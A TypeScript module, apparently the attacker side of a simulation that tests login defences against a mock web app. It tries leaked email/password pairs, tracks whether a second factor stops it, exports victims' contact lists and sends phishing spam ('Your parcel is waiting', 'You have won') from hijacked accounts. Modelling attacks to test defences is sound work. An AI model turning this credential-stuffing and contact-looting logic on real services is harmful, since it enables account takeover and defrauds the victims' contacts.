import { createBrowser, jsonOf, type Browser, type Exchange, type WireRequest } from '../wire.ts';
import type { LeakedPair } from '../plan.ts';
import { problemOf } from '../second-factor/routes.ts';
import { isRefusal } from './botnet.ts';

/** A session of somebody else's account in the attacker's hands. */
export interface StolenSession {
  readonly email: string;
  readonly browser: Browser;
}

/** How far a right password came where more is asked for: `pending` waits for a code, `enroll-only` may set up a factor and no more. */
export type Stage = 'pending' | 'enroll-only';

/** A right password in the attacker's hands, and the browser that gave it. */
export interface HalfSession extends StolenSession {
  readonly stage: Stage;
}

/** How a leaked pair ended: `entered` read the contacts, `stopped` was asked for a second factor, `refused` was told to come back later. */
export type PairOutcome =
  | { readonly kind: 'entered'; readonly session: StolenSession }
  | { readonly kind: 'stopped'; readonly half: HalfSession }
  | { readonly kind: 'denied' | 'refused' };

/** Tries a leaked pair, and reads the contacts if it opens something. */
export async function tryPair({ email, password }: Pick<LeakedPair, 'email' | 'password'>, send: (request: WireRequest) => Promise<Exchange>): Promise<PairOutcome> {
  const browser = createBrowser(send);
  const answer = await browser.send({ path: '/login', form: { email, password } });
  if (isRefusal(answer)) return { kind: 'refused' };
  if (problemOf(answer) === 'mfa-required') return { kind: 'stopped', half: { email, browser, stage: 'pending' } };
  if (answer.status !== 200) return { kind: 'denied' };
  const contacts = await browser.send({ path: '/contacts' });
  if (readsContacts(contacts)) return { kind: 'entered', session: { email, browser } };
  return problemOf(contacts) === 'mfa-enrollment-required' ? { kind: 'stopped', half: { email, browser, stage: 'enroll-only' } } : { kind: 'denied' };
}

/** Whether an answer to GET /contacts shows them. */
export function readsContacts(answer: Exchange): boolean {
  return answer.status === 200 && Array.isArray(jsonOf(answer)['contacts']);
}

/** Mails sent from each account that was entered. */
const campaigns = [
  { subject: 'Your parcel is waiting', body: 'Pay the fee today: http://parcel.example/' },
  { subject: 'You have won', body: 'Claim your prize: http://prize.example/' },
];

export interface Loot {
  /** Addresses of the rows of the list that was exported. */
  readonly rows: readonly string[];
  readonly spamSent: number;
}

/** Exports the list, then sends spam to it. */
export async function lootAccount({ browser }: StolenSession): Promise<Loot> {
  const { status, body } = await browser.send({ path: '/contacts/export.csv' });
  const rows = status === 200 ? body.split('\r\n').slice(1).filter((row) => row !== '').map(emailOfRow) : [];
  let spamSent = 0;
  for (const form of campaigns) {
    const answer = await browser.send({ path: '/campaigns', form });
    const { sent } = jsonOf(answer);
    if (answer.status === 200 && typeof sent === 'number') spamSent += sent;
  }
  return { rows, spamSent };
}

function emailOfRow(row: string): string {
  return row.slice(0, row.indexOf(','));
}
